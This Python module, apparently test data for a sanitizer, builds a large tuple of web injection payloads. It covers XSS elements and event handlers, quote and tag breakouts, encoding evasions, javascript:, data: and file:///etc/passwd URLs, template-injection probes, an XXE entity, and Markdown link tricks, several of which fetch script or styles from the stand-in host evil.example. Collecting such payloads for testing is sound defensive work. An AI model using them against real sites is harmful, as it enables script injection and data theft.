"""What attackers write where text or an address is expected.

Elements, ways out of where text stands, addresses that do more than lead somewhere, and Markdown that becomes either.
What they would add to a page does the deed, or is named evil.
"""

from __future__ import annotations

from typing import Final

DEED: Final = "document.documentElement.dataset.done=1"
"""What they try to do: a browser in which it was done shows it."""

_ELEMENTS: Final = (
    "<script>{0}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script\n>{0}</script\t>", "<script/x>{0}</script>", "<img src=x onerror={0}>", "<img/src/onerror={0}>",
    "<img src=`x` onerror={0}>", "<IMG SRC=x OnErRoR={0}>", "<svg onload={0}>", "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<body onload={0}>",
    "<svg><a xlink:href='javascript:{0}'><text y=9>x</text></a></svg>", "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe src=//evil.example></iframe>", "<object data=x>",
    "<object data='javascript:{0}'></object>", "<embed src='javascript:{0}'>", "<applet code=x>",
    "<frameset><frame src=x>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example)}}</style>", "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>", "<p style=x:expression({0})>",
    "<form action=//evil.example><input name=q></form>", "<button formaction='javascript:{0}'>x</button>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>", "<marquee onstart={0}>", "<video src=x onerror={0}>", "<audio src=x onerror={0}>",
    "<video><source onerror={0}></video>", "<math href='javascript:{0}'>x</math>", "<isindex action='javascript:{0}'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<template><script>{0}</script></template>",
    "<xmp><img src=x onerror={0}></xmp>", "<plaintext>", "<listing><img src=x onerror={0}></listing>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>", "<svg><style><img src=x onerror={0}></style></svg>",
    "<custom-element onclick={0} tabindex=1>", "<a href='javascript:{0}' autofocus>x</a>",
    "<a name=title id=search>x</a>", "<wangqi-search base='//evil.example/'></wangqi-search>",
    "<div id=q class=hit data-markdown='x'>", "<dialog open>x</dialog>", "<!--<img src=x onerror={0}>-->",
    "<!--[if IE]><script>{0}</script><![endif]-->", "<![CDATA[<script>{0}</script>]]>",
    "<a class=evil href=https://evil.example>x</a>", "<b class=evil>x</b>", "<h1 class=evil>x</h1>",
    "<p id=evil>x</p>", "<input class=evil>", "<article class=evil>x</article>", "<mark class=evil>x</mark>",
    "<span id=evil data-x=y>x</span>", "<table background=//evil.example>", "<td class=evil>",
    "<img class=evil src=https://evil.example/x.png>", "<ul class=evil><li class=evil>x", "<main class=evil>x</main>",
    "<header class=evil>x</header>", "<label class=evil>x</label>", "<del id=evil datetime=x>x</del>",
    "<?xml-stylesheet href='javascript:{0}'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)  # fmt: skip

_WAYS_OUT: Final = (
    '"><img src=x onerror={0}>', "'><img src=x onerror={0}>", '" onmouseover="{0}', "' onmouseover='{0}",
    "` onmouseover=`{0}", "></a><img src=x onerror={0}>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</script><script>{0}</script>", "</style><script>{0}</script>",
    "--><script>{0}</script>", "]]><script>{0}</script>", "?><script>{0}</script>",
    "</p></article></main><script>{0}</script>", "</mark><script>{0}</script>", "</code></pre><script>{0}</script>",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "&amp;lt;script&amp;gt;{0}", "%3Cscript%3E{0}%3C/script%3E",
    "＜script＞{0}＜/script＞", "＂ onmouseover=＂{0}", "﹤img src=x onerror={0}﹥", "\u2028<script>{0}</script>\u2029",
    "\u202e<script>{0}</script>", "\ufeff<script>{0}</script>", "<\u200bscript>{0}</script>",
    "<script\x0b>{0}</script>", "<img\x0csrc=x\x0conerror={0}>", "\x1b<script>{0}</script>", "{{{{7*7}}}}",
    "{{% include '/etc/passwd' %}}", "{{{{ config.__class__ }}}}", "${{7*7}}", "<%= {0} %>", "#{{{0}}}", "__proto__",
    "constructor[prototype][x]", "');{0};//", '");{0};//',
)  # fmt: skip

_ADDRESSES: Final = (
    "javascript:{0}", "JaVaScRiPt:{0}", "javascript&colon;{0}", "&#106;avascript:{0}", "&#x6A&#x61vascript:{0}",
    "java\tscript:{0}", "java&#10;script:{0}", "java&Tab;script:{0}", "\x01javascript:{0}", " javascript:{0}",
    "javascript\x00:{0}", "javascript://x.example/%0a{0}", "javascript:https://x.example/{0}", "jav%61script:{0}",
    "\\javascript:{0}", "vbscript:msgbox", "livescript:{0}", "mocha:{0}", "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg onload={0}>", "data:,x", "blob:https://x.example/0",
    "filesystem:https://x.example/x", "file:///etc/passwd", "about:blank", "view-source:https://x.example",
    "//evil.example", "///evil.example", "////evil.example", "\\\\evil.example", "/\\evil.example", "\\/evil.example",
    "/\t/evil.example", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "http:", "https://",
    "https:///evil.example", "http://[", "http://\x00", "ftp://evil.example", "mailto:a@evil.example", "tel:123",
    "ws://evil.example", "intent://x#Intent;end", "ms-settings:x", "chrome://x", "x:y", "?javascript:{0}",
    '#"onclick={0}', "../../../../evil.md", "..\\..\\evil", "/api/v1/search", 'https://x.example/"onclick="{0}',
    "https://x.example/'onclick='{0}", "https://x.example/><script>{0}</script>", "https://x.example/`onclick=`{0}",
    "https://x.example/\u2028{0}",
)  # fmt: skip

_MARKDOWN: Final = (
    "[x](javascript:{0})", "[x](<javascript:{0}>)", "[x][y]\n\n[y]: javascript:{0}", "![x](javascript:{0})",
    "<javascript:{0}>", '[x](https://x.example/ "\\"onmouseover=\\"{0}")', '![x" onerror="{0}](https://x.example/)',
    '[x](https://x.example/"onmouseover="{0})', "![](data:image/svg+xml,<svg onload={0}>)",
    "[<img src=x onerror={0}>](https://x.example/)", "`<img src=x onerror={0}>`", '```"><script>{0}</script>\nx\n```',
    "~~~<img src=x onerror={0}>\nx\n~~~", "| <img src=x onerror={0}> |\n|-|\n| x |", "[x](//evil.example)",
    '<https://x.example/"onclick="{0}>', "*[x](javascript:{0})*", "[x](java\nscript:{0})", "[x]( javascript:{0})",
    "[x](\x01javascript:{0})", "# <img src=x onerror={0}>", "> <svg onload={0}>", "- <svg onload={0}>",
    "\\<svg onload={0}>", "<svg\nonload={0}>", "[a]: <javascript:{0}>\n\n[a]", '<a href="javascript:{0}">x</a>',
    '<a href="java&#115;cript:{0}">x</a>', '<a href=" &#14; javascript:{0}">x</a>', '<iframe src="javascript:{0}">',
    '<img src="javascript:{0}">', "<a href='https://x.example/' onclick='{0}'>x</a>", '<video src="data:text/html,x">',
    '<img src="//evil.example/x">',
)  # fmt: skip

PAYLOADS: Final = tuple(each.format(DEED) for each in (*_ELEMENTS, *_WAYS_OUT, *_ADDRESSES, *_MARKDOWN))
